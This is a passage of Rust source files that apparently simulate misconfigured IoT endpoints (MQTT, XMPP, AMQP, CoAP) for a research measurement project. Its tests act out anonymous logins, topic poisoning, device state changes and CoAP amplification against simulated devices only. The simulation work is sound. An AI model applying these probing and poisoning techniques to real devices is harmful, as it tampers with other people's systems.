            b"GET / HTTP/1.1\r\n\r\n".to_vec(),
        );
        assert!(replies.is_empty());
    }
}
