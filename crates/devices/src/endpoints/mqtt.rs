//! MQTT broker device behaviour.
//!
//! A misconfigured broker (`MqttNoAuth`) answers any CONNECT — even without
//! credentials — with CONNACK return code 0, the paper's Table 2 indicator.
//! After connecting, a wildcard SUBSCRIBE is answered with SUBACK followed by
//! the retained messages of every topic ("all the topics and channels on the
//! target host are listed", §3.1.3) — which is also how the ZTag engine
//! recognizes Home Assistant / OctoPrint / HVAC devices from Table 11 topic
//! names. PUBLISHes to a no-auth broker are stored, making the data-poisoning
//! attacks of §5.1.2 observable.

use std::collections::HashMap;

use ofh_net::Payload;
use ofh_net::{Agent, ConnToken, NetCtx, SockAddr, TcpDecision};
use ofh_wire::mqtt::{ConnectReturnCode, Packet};

use crate::misconfig::Misconfig;

/// A simulated MQTT broker on an IoT device.
pub struct MqttDevice {
    /// `Some(MqttNoAuth)` = open broker; `None` = credentials required.
    pub misconfig: Option<Misconfig>,
    /// Accepted credentials when configured.
    pub credentials: Option<(String, Vec<u8>)>,
    /// Retained topic -> payload (seeded from the device profile).
    pub topics: Vec<(String, Vec<u8>)>,
    /// Ground truth: poisoning writes received.
    pub poison_writes: u64,
    /// `$SYS/#` subscription attempts (the paper's most-targeted topics).
    pub sys_subscriptions: u64,
    authed: HashMap<ConnToken, bool>,
    buffers: HashMap<ConnToken, Vec<u8>>,
}

impl MqttDevice {
    pub fn new(misconfig: Option<Misconfig>, topics: Vec<(String, Vec<u8>)>) -> Self {
        MqttDevice {
            misconfig,
            credentials: None,
            topics,
            poison_writes: 0,
            sys_subscriptions: 0,
            authed: HashMap::new(),
            buffers: HashMap::new(),
        }
    }

    pub fn with_credentials(mut self, user: &str, pass: &[u8]) -> Self {
        self.credentials = Some((user.to_string(), pass.to_vec()));
        self
    }

    fn open(&self) -> bool {
        matches!(self.misconfig, Some(Misconfig::MqttNoAuth))
    }

    fn handle(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, packet: Packet) {
        match packet {
            Packet::Connect {
                username, password, ..
            } => {
                let accept = self.open()
                    || match (&self.credentials, username, password) {
                        (Some((u, p)), Some(cu), Some(cp)) => *u == cu && *p == cp,
                        _ => false,
                    };
                let code = if accept {
                    self.authed.insert(conn, true);
                    ConnectReturnCode::Accepted
                } else {
                    ConnectReturnCode::NotAuthorized
                };
                ctx.tcp_send(
                    conn,
                    Packet::ConnAck {
                        session_present: false,
                        return_code: code,
                    }
                    .encode(),
                );
            }
            Packet::Subscribe { packet_id, topics } => {
                if !self.authed.get(&conn).copied().unwrap_or(false) {
                    return;
                }
                if topics.iter().any(|(t, _)| t.starts_with("$SYS")) {
                    self.sys_subscriptions += 1;
                }
                ctx.tcp_send(
                    conn,
                    Packet::SubAck {
                        packet_id,
                        return_codes: vec![0; topics.len().max(1)],
                    }
                    .encode(),
                );
                // Deliver retained messages for matching filters.
                for (filter, _) in &topics {
                    for (topic, payload) in &self.topics {
                        if topic_matches(filter, topic) {
                            ctx.tcp_send(
                                conn,
                                Packet::Publish {
                                    topic: topic.clone(),
                                    packet_id: None,
                                    payload: payload.clone(),
                                    qos: 0,
                                    retain: true,
                                }
                                .encode(),
                            );
                        }
                    }
                }
            }
            Packet::Publish { topic, payload, .. } => {
                if !self.authed.get(&conn).copied().unwrap_or(false) {
                    return;
                }
                self.poison_writes += 1;
                match self.topics.iter_mut().find(|(t, _)| *t == topic) {
                    Some((_, existing)) => *existing = payload,
                    None => self.topics.push((topic, payload)),
                }
            }
            Packet::PingReq => ctx.tcp_send(conn, Packet::PingResp.encode()),
            Packet::Disconnect => {
                self.authed.remove(&conn);
            }
            _ => {}
        }
    }
}

/// MQTT topic-filter matching (`#` multi-level, `+` single-level).
pub fn topic_matches(filter: &str, topic: &str) -> bool {
    let mut f = filter.split('/');
    let mut t = topic.split('/');
    loop {
        match (f.next(), t.next()) {
            (Some("#"), _) => return true,
            (Some("+"), Some(_)) => continue,
            (Some(fs), Some(ts)) if fs == ts => continue,
            (None, None) => return true,
            _ => return false,
        }
    }
}

impl Agent for MqttDevice {
    fn on_tcp_open(
        &mut self,
        _ctx: &mut NetCtx<'_>,
        conn: ConnToken,
        local_port: u16,
        _peer: SockAddr,
    ) -> TcpDecision {
        if local_port != ofh_wire::ports::MQTT {
            return TcpDecision::Refuse;
        }
        self.authed.insert(conn, false);
        TcpDecision::accept()
    }

    fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
        let buf = self.buffers.entry(conn).or_default();
        buf.extend_from_slice(data);
        loop {
            let snapshot = self.buffers.get(&conn).cloned().unwrap_or_default();
            match Packet::decode(&snapshot) {
                Ok((packet, used)) => {
                    self.buffers.get_mut(&conn).unwrap().drain(..used);
                    self.handle(ctx, conn, packet);
                }
                Err(_) => break, // wait for more bytes (or garbage: stall)
            }
            if self.buffers.get(&conn).map_or(true, Vec::is_empty) {
                break;
            }
        }
    }

    fn on_tcp_closed(&mut self, _ctx: &mut NetCtx<'_>, conn: ConnToken) {
        self.authed.remove(&conn);
        self.buffers.remove(&conn);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_net::{ip, SimNet, SimNetConfig, SimTime};

    /// A client that connects, optionally subscribes, publishes, and records
    /// decoded packets.
    struct MqttClient {
        dst: SockAddr,
        creds: Option<(String, Vec<u8>)>,
        subscribe: Option<String>,
        publish: Option<(String, Vec<u8>)>,
        got: Vec<Packet>,
        buf: Vec<u8>,
    }

    impl Agent for MqttClient {
        fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
            ctx.tcp_connect(self.dst);
        }
        fn on_tcp_established(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
            ctx.tcp_send(
                conn,
                Packet::Connect {
                    client_id: "probe".into(),
                    username: self.creds.as_ref().map(|(u, _)| u.clone()),
                    password: self.creds.as_ref().map(|(_, p)| p.clone()),
                    keep_alive: 60,
                    clean_session: true,
                }
                .encode(),
            );
        }
        fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
            self.buf.extend_from_slice(data);
            while let Ok((p, used)) = Packet::decode(&self.buf) {
                self.buf.drain(..used);
                if matches!(
                    p,
                    Packet::ConnAck {
                        return_code: ConnectReturnCode::Accepted,
                        ..
                    }
                ) {
                    if let Some(filter) = self.subscribe.take() {
                        ctx.tcp_send(
                            conn,
                            Packet::Subscribe {
                                packet_id: 1,
                                topics: vec![(filter, 0)],
                            }
                            .encode(),
                        );
                    }
                    if let Some((topic, payload)) = self.publish.take() {
                        ctx.tcp_send(
                            conn,
                            Packet::Publish {
                                topic,
                                packet_id: None,
                                payload,
                                qos: 0,
                                retain: false,
                            }
                            .encode(),
                        );
                    }
                }
                self.got.push(p);
                if self.buf.is_empty() {
                    break;
                }
            }
        }
    }

    fn run(device: MqttDevice, client: MqttClient) -> (Vec<Packet>, u64, u64) {
        let mut net = SimNet::new(SimNetConfig::default());
        let daddr = ip(16, 6, 0, 1);
        let did = net.attach(daddr, Box::new(device));
        let cid = net.attach(ip(16, 6, 0, 2), Box::new(client));
        net.run_until(SimTime(60_000));
        let got = net.agent_downcast::<MqttClient>(cid).unwrap().got.clone();
        let d = net.agent_downcast::<MqttDevice>(did).unwrap();
        (got, d.poison_writes, d.sys_subscriptions)
    }

    fn client(dst: SockAddr) -> MqttClient {
        MqttClient {
            dst,
            creds: None,
            subscribe: None,
            publish: None,
            got: Vec::new(),
            buf: Vec::new(),
        }
    }

    #[test]
    fn open_broker_returns_code_zero() {
        let dev = MqttDevice::new(Some(Misconfig::MqttNoAuth), vec![]);
        let (got, _, _) = run(dev, client(SockAddr::new(ip(16, 6, 0, 1), 1883)));
        assert!(matches!(
            got[0],
            Packet::ConnAck {
                return_code: ConnectReturnCode::Accepted,
                ..
            }
        ));
    }

    #[test]
    fn configured_broker_rejects_anonymous() {
        let dev = MqttDevice::new(None, vec![]).with_credentials("iot", b"s3cret");
        let (got, _, _) = run(dev, client(SockAddr::new(ip(16, 6, 0, 1), 1883)));
        assert!(matches!(
            got[0],
            Packet::ConnAck {
                return_code: ConnectReturnCode::NotAuthorized,
                ..
            }
        ));
    }

    #[test]
    fn wildcard_subscribe_lists_topics() {
        let dev = MqttDevice::new(
            Some(Misconfig::MqttNoAuth),
            vec![
                ("homeassistant/light/state".into(), b"on".to_vec()),
                ("octoPrint/temperature/bed".into(), b"60".to_vec()),
            ],
        );
        let mut c = client(SockAddr::new(ip(16, 6, 0, 1), 1883));
        c.subscribe = Some("#".into());
        let (got, _, _) = run(dev, c);
        let topics: Vec<String> = got
            .iter()
            .filter_map(|p| match p {
                Packet::Publish { topic, .. } => Some(topic.clone()),
                _ => None,
            })
            .collect();
        assert_eq!(topics.len(), 2);
        assert!(topics.iter().any(|t| t.starts_with("homeassistant/")));
    }

    #[test]
    fn publish_poisons_topic() {
        let dev = MqttDevice::new(
            Some(Misconfig::MqttNoAuth),
            vec![("sensors/temp".into(), b"21".to_vec())],
        );
        let mut c = client(SockAddr::new(ip(16, 6, 0, 1), 1883));
        c.publish = Some(("sensors/temp".into(), b"999".to_vec()));
        let (_, poison_writes, _) = run(dev, c);
        assert_eq!(poison_writes, 1);
    }

    #[test]
    fn sys_topic_subscriptions_counted() {
        let dev = MqttDevice::new(Some(Misconfig::MqttNoAuth), vec![]);
        let mut c = client(SockAddr::new(ip(16, 6, 0, 1), 1883));
        c.subscribe = Some("$SYS/#".into());
        let (_, _, sys) = run(dev, c);
        assert_eq!(sys, 1);
    }

    #[test]
    fn topic_filter_semantics() {
        assert!(topic_matches("#", "a/b/c"));
        assert!(topic_matches("a/+/c", "a/b/c"));
        assert!(topic_matches("a/b/c", "a/b/c"));
        assert!(!topic_matches("a/+/c", "a/b/d"));
        assert!(!topic_matches("a/b", "a/b/c"));
        assert!(topic_matches("a/#", "a/b/c"));
        assert!(!topic_matches("b/#", "a/b"));
    }
}
