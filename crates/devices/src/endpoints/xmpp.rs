//! XMPP server device behaviour.
//!
//! Banner-grab flow: the client opens a stream; the server answers with its
//! stream header and `<stream:features>`. The two Table 2 indicators:
//! `MECHANISM <PLAIN>` (credentials in the clear — `XmppNoEncryption`) and
//! `MECHANISM <ANONYMOUS>` (login without credentials —
//! `XmppAnonymousLogin`, 143,986 devices in Table 5). ThingPot-style
//! brute-force and anonymous state-change attacks (§5.1.2) ride on the same
//! exchange.

use std::collections::HashMap;

use ofh_net::Payload;
use ofh_net::{Agent, ConnToken, NetCtx, SockAddr, TcpDecision};
use ofh_wire::ports;
use ofh_wire::xmpp::{Mechanism, StreamFeatures, TlsPolicy};

use crate::misconfig::Misconfig;

/// A simulated XMPP server on an IoT device.
pub struct XmppDevice {
    pub misconfig: Option<Misconfig>,
    /// JID domain advertised in the stream header.
    pub domain: String,
    /// Ground truth: anonymous logins performed.
    pub anonymous_logins: u64,
    /// Ground truth: state-change commands received from anonymous sessions
    /// (the light-toggling malware of §5.1.2).
    pub state_changes: u64,
    opened: HashMap<ConnToken, bool>,
}

impl XmppDevice {
    pub fn new(misconfig: Option<Misconfig>, domain: impl Into<String>) -> Self {
        XmppDevice {
            misconfig,
            domain: domain.into(),
            anonymous_logins: 0,
            state_changes: 0,
            opened: HashMap::new(),
        }
    }

    fn features(&self) -> StreamFeatures {
        let (starttls, mechanisms) = match self.misconfig {
            Some(Misconfig::XmppAnonymousLogin) => {
                (None, vec![Mechanism::Anonymous, Mechanism::Plain])
            }
            Some(Misconfig::XmppNoEncryption) => (None, vec![Mechanism::Plain]),
            _ => (
                Some(TlsPolicy::Required),
                vec![Mechanism::ScramSha1],
            ),
        };
        StreamFeatures {
            from: self.domain.clone(),
            id: "s1".into(),
            starttls,
            mechanisms,
            version: None,
        }
    }
}

impl Agent for XmppDevice {
    fn on_tcp_open(
        &mut self,
        _ctx: &mut NetCtx<'_>,
        conn: ConnToken,
        local_port: u16,
        _peer: SockAddr,
    ) -> TcpDecision {
        if local_port != ports::XMPP_CLIENT && local_port != ports::XMPP_SERVER {
            return TcpDecision::Refuse;
        }
        self.opened.insert(conn, false);
        TcpDecision::accept()
    }

    fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
        let text = String::from_utf8_lossy(data).into_owned();
        let opened = self.opened.get(&conn).copied().unwrap_or(false);
        if !opened {
            if text.contains("<stream:stream") {
                self.opened.insert(conn, true);
                ctx.tcp_send(conn, self.features().render().into_bytes());
            }
            return;
        }
        // SASL auth attempts.
        if text.contains("mechanism='ANONYMOUS'") || text.contains("mechanism=\"ANONYMOUS\"") {
            if matches!(self.misconfig, Some(Misconfig::XmppAnonymousLogin)) {
                self.anonymous_logins += 1;
                ctx.tcp_send(conn, "<success xmlns='urn:ietf:params:xml:ns:xmpp-sasl'/>");
            } else {
                ctx.tcp_send(
                    conn,
                    "<failure xmlns='urn:ietf:params:xml:ns:xmpp-sasl'><not-authorized/></failure>",
                );
            }
            return;
        }
        if text.contains("mechanism='PLAIN'") || text.contains("mechanism=\"PLAIN\"") {
            // No credential store on these devices: PLAIN always fails, but
            // the secret just crossed the wire — the misconfiguration.
            ctx.tcp_send(
                conn,
                "<failure xmlns='urn:ietf:params:xml:ns:xmpp-sasl'><not-authorized/></failure>",
            );
            return;
        }
        // IQ set = state change (e.g. toggling Hue lights).
        if text.contains("<iq") && text.contains("type='set'") {
            self.state_changes += 1;
            ctx.tcp_send(conn, "<iq type='result'/>");
        }
    }

    fn on_tcp_closed(&mut self, _ctx: &mut NetCtx<'_>, conn: ConnToken) {
        self.opened.remove(&conn);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_net::{ip, SimNet, SimNetConfig, SimTime};
    use ofh_wire::xmpp::client_stream_open;

    struct XmppProbe {
        dst: SockAddr,
        then_send: Vec<String>,
        features: Option<StreamFeatures>,
        replies: Vec<String>,
        sent: usize,
    }

    impl Agent for XmppProbe {
        fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
            ctx.tcp_connect(self.dst);
        }
        fn on_tcp_established(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
            ctx.tcp_send(conn, client_stream_open("target").into_bytes());
        }
        fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
            let text = String::from_utf8_lossy(data).into_owned();
            if self.features.is_none() {
                self.features = StreamFeatures::parse(&text).ok();
            } else {
                self.replies.push(text);
            }
            if self.sent < self.then_send.len() {
                let msg = self.then_send[self.sent].clone();
                self.sent += 1;
                ctx.tcp_send(conn, msg.into_bytes());
            }
        }
    }

    fn probe(device: XmppDevice, then_send: Vec<String>) -> (Option<StreamFeatures>, Vec<String>, u64, u64) {
        let mut net = SimNet::new(SimNetConfig::default());
        let daddr = ip(16, 10, 0, 1);
        let did = net.attach(daddr, Box::new(device));
        let pid = net.attach(
            ip(16, 10, 0, 2),
            Box::new(XmppProbe {
                dst: SockAddr::new(daddr, 5222),
                then_send,
                features: None,
                replies: Vec::new(),
                sent: 0,
            }),
        );
        net.run_until(SimTime(30_000));
        let p = net.agent_downcast::<XmppProbe>(pid).unwrap();
        let (features, replies) = (p.features.clone(), p.replies.clone());
        let d = net.agent_downcast::<XmppDevice>(did).unwrap();
        (features, replies, d.anonymous_logins, d.state_changes)
    }

    #[test]
    fn anonymous_device_advertises_anonymous() {
        let (features, _, _, _) = probe(
            XmppDevice::new(Some(Misconfig::XmppAnonymousLogin), "hue-bridge"),
            vec![],
        );
        let f = features.unwrap();
        assert!(f.offers(Mechanism::Anonymous));
        assert!(f.starttls.is_none());
    }

    #[test]
    fn plain_device_advertises_plain_only() {
        let (features, _, _, _) = probe(
            XmppDevice::new(Some(Misconfig::XmppNoEncryption), "gw"),
            vec![],
        );
        let f = features.unwrap();
        assert!(f.offers(Mechanism::Plain));
        assert!(!f.offers(Mechanism::Anonymous));
    }

    #[test]
    fn secure_device_requires_tls_and_scram() {
        let (features, _, _, _) = probe(XmppDevice::new(None, "secure"), vec![]);
        let f = features.unwrap();
        assert_eq!(f.starttls, Some(TlsPolicy::Required));
        assert!(f.offers(Mechanism::ScramSha1));
        assert!(!f.offers(Mechanism::Plain));
    }

    #[test]
    fn anonymous_login_then_state_change() {
        let (_, replies, logins, changes) = probe(
            XmppDevice::new(Some(Misconfig::XmppAnonymousLogin), "hue"),
            vec![
                "<auth xmlns='urn:ietf:params:xml:ns:xmpp-sasl' mechanism='ANONYMOUS'/>".into(),
                "<iq type='set'><light state='off'/></iq>".into(),
            ],
        );
        assert!(replies.iter().any(|r| r.contains("<success")));
        assert_eq!(logins, 1);
        assert_eq!(changes, 1);
    }

    #[test]
    fn anonymous_rejected_on_secure_device() {
        let (_, replies, logins, _) = probe(
            XmppDevice::new(None, "secure"),
            vec!["<auth xmlns='urn:ietf:params:xml:ns:xmpp-sasl' mechanism='ANONYMOUS'/>".into()],
        );
        assert!(replies.iter().any(|r| r.contains("<failure")));
        assert_eq!(logins, 0);
    }
}
