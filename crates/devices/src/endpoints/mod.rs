//! Behavioural device agents.
//!
//! One module per protocol; each agent speaks real `ofh-wire` bytes over the
//! simulator. A device's security posture is captured by its optional
//! [`Misconfig`](crate::misconfig::Misconfig): misconfigured devices exhibit
//! exactly the banner/response indicators of Tables 2 and 3, properly
//! configured (but exposed) devices answer in ways that prove the port is
//! open without revealing a vulnerability — reproducing the gap between
//! Table 4 (exposed) and Table 5 (misconfigured).

pub mod amqp;
pub mod coap;
pub mod future;
pub mod mqtt;
pub mod telnet;
pub mod upnp;
pub mod xmpp;

pub use amqp::AmqpDevice;
pub use coap::CoapDevice;
pub use future::{OpcUaDevice, Tr069Device};
pub use mqtt::MqttDevice;
pub use telnet::TelnetDevice;
pub use upnp::UpnpDevice;
pub use xmpp::XmppDevice;
