//! AMQP broker device behaviour.
//!
//! Banner-grab flow: the client sends the 8-byte protocol header; the broker
//! answers with `Connection.Start`, whose server-properties disclose product
//! and version. A misconfigured broker (`AmqpNoAuth`) runs one of the
//! known-vulnerable RabbitMQ versions from Table 2 (2.7.1 / 2.8.4) and
//! offers `ANONYMOUS`; a configured one runs a modern version and requires
//! `PLAIN` credentials. Poisoning publishes after an anonymous handshake are
//! counted (§5.1.2 observed queue flooding to the point of DoS).

use std::collections::HashMap;

use ofh_net::Payload;
use ofh_net::{Agent, ConnToken, NetCtx, SockAddr, TcpDecision};
use ofh_wire::amqp::{frame_type, ConnectionStart, Frame, PROTOCOL_HEADER};
use ofh_wire::ports;

use crate::misconfig::Misconfig;

/// A simulated AMQP broker on an IoT gateway.
pub struct AmqpDevice {
    pub misconfig: Option<Misconfig>,
    /// Broker version advertised in server-properties.
    pub version: String,
    /// Ground truth: frames received after the handshake (publish flood /
    /// poisoning volume).
    pub post_handshake_frames: u64,
    started: HashMap<ConnToken, bool>,
}

impl AmqpDevice {
    pub fn new(misconfig: Option<Misconfig>) -> Self {
        let version = if misconfig.is_some() {
            // The two vulnerable versions of Table 2, split deterministically
            // by posture to keep both visible in scan results.
            "2.7.1".to_string()
        } else {
            "3.8.9".to_string()
        };
        AmqpDevice {
            misconfig,
            version,
            post_handshake_frames: 0,
            started: HashMap::new(),
        }
    }

    /// Override the advertised version (population builder alternates 2.7.1
    /// and 2.8.4 across the vulnerable population).
    pub fn with_version(mut self, version: &str) -> Self {
        self.version = version.into();
        self
    }

    fn connection_start(&self) -> ConnectionStart {
        let mechanisms = if matches!(self.misconfig, Some(Misconfig::AmqpNoAuth)) {
            "ANONYMOUS PLAIN"
        } else {
            "PLAIN AMQPLAIN"
        };
        ConnectionStart {
            version_major: 0,
            version_minor: 9,
            server_properties: vec![
                ("product".into(), "RabbitMQ".into()),
                ("version".into(), self.version.clone()),
                ("platform".into(), "Erlang/OTP".into()),
            ],
            mechanisms: mechanisms.into(),
            locales: "en_US".into(),
        }
    }
}

impl Agent for AmqpDevice {
    fn on_tcp_open(
        &mut self,
        _ctx: &mut NetCtx<'_>,
        conn: ConnToken,
        local_port: u16,
        _peer: SockAddr,
    ) -> TcpDecision {
        if local_port != ports::AMQP {
            return TcpDecision::Refuse;
        }
        self.started.insert(conn, false);
        TcpDecision::accept()
    }

    fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
        let started = self.started.get(&conn).copied().unwrap_or(false);
        if !started {
            if data.starts_with(&PROTOCOL_HEADER) {
                self.started.insert(conn, true);
                let frame = Frame {
                    frame_type: frame_type::METHOD,
                    channel: 0,
                    payload: self.connection_start().encode_method(),
                };
                ctx.tcp_send(conn, frame.encode());
            } else {
                // Spec: a server that receives a bad header replies with the
                // header it expects and closes.
                ctx.tcp_send(conn, PROTOCOL_HEADER.to_vec());
                ctx.tcp_close(conn);
            }
            return;
        }
        // Post-handshake traffic: count frames (publish floods, poisoning).
        let mut rest = data.as_slice();
        while let Ok((_, used)) = Frame::decode(rest) {
            self.post_handshake_frames += 1;
            rest = &rest[used..];
            if rest.is_empty() {
                break;
            }
        }
    }

    fn on_tcp_closed(&mut self, _ctx: &mut NetCtx<'_>, conn: ConnToken) {
        self.started.remove(&conn);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_net::{ip, SimNet, SimNetConfig, SimTime};

    struct AmqpProbe {
        dst: SockAddr,
        send_bad_header: bool,
        publish_after: bool,
        start: Option<ConnectionStart>,
        closed: bool,
    }

    impl Agent for AmqpProbe {
        fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
            ctx.tcp_connect(self.dst);
        }
        fn on_tcp_established(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
            if self.send_bad_header {
                ctx.tcp_send(conn, b"HTTP/1.1 GET /\r\n".to_vec());
            } else {
                ctx.tcp_send(conn, PROTOCOL_HEADER.to_vec());
            }
        }
        fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
            if let Ok((frame, _)) = Frame::decode(data) {
                self.start = ConnectionStart::decode_method(&frame.payload).ok();
                if self.publish_after {
                    let junk = Frame {
                        frame_type: frame_type::BODY,
                        channel: 1,
                        payload: b"poison".to_vec(),
                    };
                    ctx.tcp_send(conn, junk.encode());
                }
            }
        }
        fn on_tcp_closed(&mut self, _c: &mut NetCtx<'_>, _conn: ConnToken) {
            self.closed = true;
        }
    }

    fn probe(device: AmqpDevice, bad_header: bool, publish: bool) -> (AmqpProbe, u64) {
        let mut net = SimNet::new(SimNetConfig::default());
        let daddr = ip(16, 9, 0, 1);
        let did = net.attach(daddr, Box::new(device));
        let pid = net.attach(
            ip(16, 9, 0, 2),
            Box::new(AmqpProbe {
                dst: SockAddr::new(daddr, 5672),
                send_bad_header: bad_header,
                publish_after: publish,
                start: None,
                closed: false,
            }),
        );
        net.run_until(SimTime(30_000));
        let p = net.agent_downcast::<AmqpProbe>(pid).unwrap();
        let probe = AmqpProbe {
            dst: p.dst,
            send_bad_header: p.send_bad_header,
            publish_after: p.publish_after,
            start: p.start.clone(),
            closed: p.closed,
        };
        let frames = net
            .agent_downcast::<AmqpDevice>(did)
            .unwrap()
            .post_handshake_frames;
        (probe, frames)
    }

    #[test]
    fn vulnerable_broker_banners_old_version_and_anonymous() {
        let (p, _) = probe(AmqpDevice::new(Some(Misconfig::AmqpNoAuth)), false, false);
        let start = p.start.unwrap();
        assert_eq!(start.property("version"), Some("2.7.1"));
        assert!(start.mechanisms.contains("ANONYMOUS"));
    }

    #[test]
    fn configured_broker_requires_plain() {
        let (p, _) = probe(AmqpDevice::new(None), false, false);
        let start = p.start.unwrap();
        assert_eq!(start.property("version"), Some("3.8.9"));
        assert!(!start.mechanisms.contains("ANONYMOUS"));
    }

    #[test]
    fn version_override() {
        let dev = AmqpDevice::new(Some(Misconfig::AmqpNoAuth)).with_version("2.8.4");
        let (p, _) = probe(dev, false, false);
        assert_eq!(p.start.unwrap().property("version"), Some("2.8.4"));
    }

    #[test]
    fn bad_header_closed() {
        let (p, _) = probe(AmqpDevice::new(None), true, false);
        assert!(p.start.is_none());
        assert!(p.closed);
    }

    #[test]
    fn post_handshake_frames_counted() {
        let (_, frames) = probe(AmqpDevice::new(Some(Misconfig::AmqpNoAuth)), false, true);
        assert_eq!(frames, 1);
    }
}
