//! CoAP device behaviour.
//!
//! Four postures, matching Table 3's response indicators:
//!
//! * `CoapNoAuthAdmin` — responses begin `220-Admin` (admin-access session);
//! * `CoapNoAuth` — responses begin `220` (connected session, full access
//!   to resources; the `x1C` full-access marker appears on GETs);
//! * `CoapReflection` — plain `/.well-known/core` resource disclosure: the
//!   device answers anyone, making it a DoS amplification reflector (the
//!   response is far larger than the 21-byte query);
//! * configured — `4.01 Unauthorized` to everything (exposed but safe).

use ofh_net::Payload;
use ofh_net::{Agent, NetCtx, SockAddr};
use ofh_wire::coap::{render_link_format, Code, LinkEntry, Message, MsgType};
use ofh_wire::ports;

use crate::misconfig::Misconfig;

/// A simulated CoAP-speaking IoT device.
pub struct CoapDevice {
    pub misconfig: Option<Misconfig>,
    /// The device's resource tree (seeded from its profile — e.g. a router
    /// exposing `/ndm/login`).
    pub resources: Vec<LinkEntry>,
    /// Ground truth: datagrams answered (amplification volume measure).
    pub responses_sent: u64,
    /// Ground truth: PUT/POST poisoning writes accepted.
    pub poison_writes: u64,
}

impl CoapDevice {
    pub fn new(misconfig: Option<Misconfig>, resources: Vec<LinkEntry>) -> Self {
        CoapDevice {
            misconfig,
            resources,
            responses_sent: 0,
            poison_writes: 0,
        }
    }

    fn session_prefix(&self) -> Option<&'static str> {
        match self.misconfig {
            Some(Misconfig::CoapNoAuthAdmin) => Some("220-Admin "),
            Some(Misconfig::CoapNoAuth) => Some("220 "),
            _ => None,
        }
    }
}

impl Agent for CoapDevice {
    fn on_udp(&mut self, ctx: &mut NetCtx<'_>, local_port: u16, peer: SockAddr, payload: &Payload) {
        if local_port != ports::COAP {
            return;
        }
        let Ok(req) = Message::decode(payload) else {
            return; // malformed datagrams are dropped, never crash
        };
        if !req.code.is_request() {
            return;
        }
        let reply = match self.misconfig {
            None => {
                // Exposed but properly configured: an explicit 4.01.
                Message {
                    msg_type: MsgType::Acknowledgement,
                    code: Code::UNAUTHORIZED,
                    message_id: req.message_id,
                    token: req.token.clone(),
                    options: vec![],
                    payload: Vec::new(),
                }
            }
            Some(_) => {
                let path = req.uri_path();
                if req.code == Code::GET && path == ".well-known/core" {
                    let body = match self.session_prefix() {
                        Some(prefix) => {
                            format!("{prefix}{}", render_link_format(&self.resources))
                        }
                        None => render_link_format(&self.resources),
                    };
                    Message::content_response(&req, &body)
                } else if req.code == Code::GET {
                    // Resource read; no-auth sessions reveal full access.
                    let known = self.resources.iter().any(|r| r.path.trim_start_matches('/') == path);
                    let body = if !known {
                        String::new()
                    } else if self.session_prefix().is_some() {
                        format!("x1C {path} content")
                    } else {
                        format!("{path} content")
                    };
                    let mut m = Message::content_response(&req, &body);
                    if !known {
                        m.code = Code::NOT_FOUND;
                    }
                    m
                } else if matches!(req.code, Code::PUT | Code::POST)
                    && self.session_prefix().is_some()
                {
                    // Poisoning write accepted on no-auth sessions.
                    self.poison_writes += 1;
                    Message {
                        msg_type: MsgType::Acknowledgement,
                        code: Code::CHANGED,
                        message_id: req.message_id,
                        token: req.token.clone(),
                        options: vec![],
                        payload: Vec::new(),
                    }
                } else {
                    Message {
                        msg_type: MsgType::Acknowledgement,
                        code: Code::FORBIDDEN,
                        message_id: req.message_id,
                        token: req.token.clone(),
                        options: vec![],
                        payload: Vec::new(),
                    }
                }
            }
        };
        self.responses_sent += 1;
        ctx.udp_send(local_port, peer, reply.encode());
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_net::{ip, Agent, ConnToken, SimNet, SimNetConfig, SimTime};

    struct CoapProbe {
        dst: SockAddr,
        request: Message,
        reply: Option<Message>,
    }

    impl Agent for CoapProbe {
        fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
            ctx.udp_send(40_001, self.dst, self.request.encode());
        }
        fn on_udp(&mut self, _c: &mut NetCtx<'_>, _p: u16, _peer: SockAddr, payload: &Payload) {
            self.reply = Message::decode(payload).ok();
        }
        fn on_tcp_closed(&mut self, _c: &mut NetCtx<'_>, _conn: ConnToken) {}
    }

    fn probe(device: CoapDevice, request: Message) -> (Option<Message>, u64, u64) {
        let mut net = SimNet::new(SimNetConfig::default());
        let daddr = ip(16, 7, 0, 1);
        let did = net.attach(daddr, Box::new(device));
        let pid = net.attach(
            ip(16, 7, 0, 2),
            Box::new(CoapProbe {
                dst: SockAddr::new(daddr, 5683),
                request,
                reply: None,
            }),
        );
        net.run_until(SimTime(30_000));
        let reply = net.agent_downcast::<CoapProbe>(pid).unwrap().reply.clone();
        let d = net.agent_downcast::<CoapDevice>(did).unwrap();
        (reply, d.responses_sent, d.poison_writes)
    }

    fn router_resources() -> Vec<LinkEntry> {
        vec![
            LinkEntry {
                path: "/ndm/login".into(),
                attrs: vec![],
            },
            LinkEntry {
                path: "/sensors/temp".into(),
                attrs: vec![("rt".into(), "temperature".into())],
            },
        ]
    }

    #[test]
    fn reflection_device_discloses_resources() {
        let (reply, sent, _) = probe(
            CoapDevice::new(Some(Misconfig::CoapReflection), router_resources()),
            Message::well_known_core_request(1),
        );
        let reply = reply.unwrap();
        assert_eq!(reply.code, Code::CONTENT);
        let body = String::from_utf8_lossy(&reply.payload).to_string();
        assert!(body.contains("/ndm/login"));
        assert!(!body.starts_with("220"));
        assert_eq!(sent, 1);
        // Amplification: response dwarfs the 21-byte probe.
        assert!(reply.encode().len() > Message::well_known_core_request(1).encode().len());
    }

    #[test]
    fn admin_session_marker() {
        let (reply, _, _) = probe(
